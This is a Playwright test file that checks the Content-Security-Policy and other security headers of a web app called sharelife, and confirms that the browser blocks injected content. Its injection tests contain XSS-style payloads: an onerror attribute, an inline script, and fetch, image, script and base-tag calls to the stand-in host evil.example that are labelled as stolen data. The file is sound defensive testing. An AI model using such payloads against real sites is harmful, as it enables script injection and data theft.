import type { APIResponse, Page } from '@playwright/test'
import { expect, signIn, test } from '../support/browser-test'

/** The directives of a response's policy by name. */
function policyOf(response: Pick<APIResponse, 'headers'>): Record<string, string> {
  const policy = response.headers()['content-security-policy'] ?? ''
  const directives = policy.split('; ').map((directive) => {
    const [name = '', ...sources] = directive.split(' ')
    return [name, sources.join(' ')] as const
  })
  return Object.fromEntries(directives)
}

/** Directives for every page that block what a script policy does not cover. */
const CLOSED = {
  'default-src': "'self'",
  'script-src-attr': "'none'",
  'object-src': "'none'",
  'base-uri': "'none'",
  'frame-ancestors': "'none'",
  'form-action': "'self'",
  'font-src': "'self'",
}

/** The inline scripts that a browser receives and would run. */
function inlineScripts(html: string): string[] {
  return (html.match(/<script(?![^>]*\ssrc=)[^>]*>/g) ?? []).filter(
    (tag) => !tag.includes('application/ld+json'),
  )
}

test('every page lists the allowed hosts of its scripts, frames and requests', async ({
  request,
}) => {
  for (const path of ['/', '/allrequest', '/login', '/donate', '/no/such/page']) {
    const response = await request.get(path)
    const policy = policyOf(response)
    expect([path, policy]).toEqual([path, expect.objectContaining(CLOSED)])
    expect(policy['script-src']).not.toContain('unsafe-eval')
    expect(policy['script-src']).not.toMatch(/\*(?!\.js\.stripe\.com)|https?:(?!\/\/)/)
    expect(policy['img-src']).toBe("'self' data: https://res.cloudinary.com")
    expect(response.headers()).toMatchObject({
      'strict-transport-security': 'max-age=63072000; includeSubDomains',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'permissions-policy': expect.stringContaining('geolocation=()'),
      'reporting-endpoints': 'csp="/api/csp-reports"',
    })
  }
})

test('a personal page runs only the inline scripts of this request', async ({ page }) => {
  await signIn(page, 'member@sharelife.example')
  const nonces = new Set<string>()
  for (const path of ['/donate', '/dashboard/userhome', '/dashboard/profile', '/reset?token=x']) {
    const response = await page.request.get(path)
    const { 'script-src': scripts = '', ...policy } = policyOf(response)
    expect([path, policy]).toEqual([path, expect.objectContaining({ 'object-src': "'none'" })])
    expect(scripts).not.toContain('unsafe-inline')
    const [, nonce = ''] = /'nonce-([^']+)'/.exec(scripts) ?? []
    expect(nonce.length).toBeGreaterThan(20)
    nonces.add(nonce)
    const without = inlineScripts(await response.text()).filter((tag) => !tag.includes(nonce))
    // Cached pages contain the theme script too: the policy allows it by its hash.
    expect([path, without.filter((tag) => tag !== '<script>')]).toEqual([path, []])
    expect(without.length).toBeLessThanOrEqual(1)
    expect(response.headers()['cache-control']).toContain('no-store')
  }
  expect(nonces.size).toBe(4)
})

/** What the browser blocked while `act` ran on a page. */
async function stoppedBy(page: Page, act: () => unknown): Promise<string[]> {
  await page.evaluate(() => {
    const stopped: string[] = []
    Object.assign(window, { stopped })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      stopped.push(effectiveDirective),
    )
  })
  await page.evaluate(act as () => void)
  await expect.poll(() => page.evaluate(() => window.stopped.length)).toBeGreaterThan(0)
  return page.evaluate(() => window.stopped)
}

declare global {
  interface Window {
    stopped: string[]
    wasRun?: true
  }
}

test.describe('a person who injects text into a page', () => {
  // Each blocked item is an error on the console, which is expected here.
  test.use({ watched: undefined })

  test('runs no attribute on a cached page or a personal one, and no inline script on a personal one', async ({
    page,
  }) => {
    for (const path of ['/about', '/donate']) {
      if (path === '/donate') await signIn(page, 'member@sharelife.example')
      await page.goto(path)
      const stopped = await stoppedBy(page, () => {
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src="/no-such-picture.png" onerror="window.wasRun = true">',
        )
      })
      expect([path, stopped]).toEqual([path, ['script-src-attr']])
      expect(await page.evaluate(() => window.wasRun)).toBeUndefined()
    }
    const stopped = await stoppedBy(page, () => {
      const script = document.createElement('script')
      script.textContent = 'window.wasRun = true'
      document.body.append(script)
    })
    expect(stopped).toEqual(['script-src-elem'])
    expect(await page.evaluate(() => window.wasRun)).toBeUndefined()
  })

  test('sends nothing to another host, and loads no code from one', async ({ page }) => {
    await page.goto('/about')
    await stoppedBy(page, () => {
      void fetch('https://evil.example/?stolen').catch(() => undefined)
      new Image().src = 'https://evil.example/stolen.png'
      const script = document.createElement('script')
      script.src = 'https://evil.example/script.js'
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(script, base)
    })
    // The browser reports one after the other.
    const directives = () => page.evaluate(() => [...new Set(window.stopped)].sort())
    await expect.poll(directives).toEqual(['base-uri', 'connect-src', 'img-src', 'script-src-elem'])
  })
})

test('endpoints respond with data only, and other sites can show pictures', async ({ request }) => {
  const calls = ['/api/getservices', '/getservices', '/api/no-such-call', '/api/health']
  for (const path of calls) {
    const response = await request.get(path)
    expect([path, policyOf(response)]).toEqual([
      path,
      expect.objectContaining({ 'default-src': "'none'", 'frame-ancestors': "'none'" }),
    ])
    expect(response.headers()['cross-origin-resource-policy']).toBe('same-origin')
  }
  // Feed readers embed copied pictures, whatever the response.
  const copied = await request.get('/api/images/copy')
  expect(copied.headers()['cross-origin-resource-policy']).toBe('cross-origin')
  const response = await request.get('/.well-known/security.txt')
  expect([response.status(), await response.text()]).toEqual([
    200,
    expect.stringMatching(/^Contact: /),
  ])
  const page = await (await request.get('/')).text()
  const [, card = ''] = /property="og:image" content="https?:\/\/[^/"]+([^"]+)"/.exec(page) ?? []
  for (const path of [card, '/icons/icon-192.png', '/favicon.ico', '/press/sharelife-mark.svg']) {
    const response = await request.get(path)
    expect([path, response.status()]).toEqual([path, 200])
    expect(response.headers()['cross-origin-resource-policy']).toBe('cross-origin')
  }
})
